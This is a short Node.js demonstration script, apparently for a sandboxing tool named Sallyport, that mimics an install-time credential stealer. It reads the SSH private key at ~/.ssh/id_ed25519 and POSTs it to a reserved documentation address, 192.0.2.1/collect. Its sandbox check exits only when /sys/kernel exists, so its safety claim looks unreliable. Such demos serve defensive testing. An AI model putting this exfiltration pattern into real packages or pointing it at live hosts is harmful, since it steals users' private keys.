// Harmless demonstration of Sallyport. It acts out what a credential stealer does at install time, on a decoy that
// Sallyport planted and towards an address that exists on no network (192.0.2.0/24, RFC 5737). Outside a sandbox it
// refuses to do anything.
const fs = require('fs'), os = require('os'), path = require('path');

if (fs.existsSync('/sys/kernel')) {
  console.error('sallyport-demo: this is no sandbox; nothing was done');
  process.exit(1);
}
const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_ed25519'));
const request = require('http').request({ host: '192.0.2.1', port: 80, path: '/collect', method: 'POST', timeout: 2000 });
request.on('error', () => {});
request.on('timeout', () => request.destroy());
request.end(key);
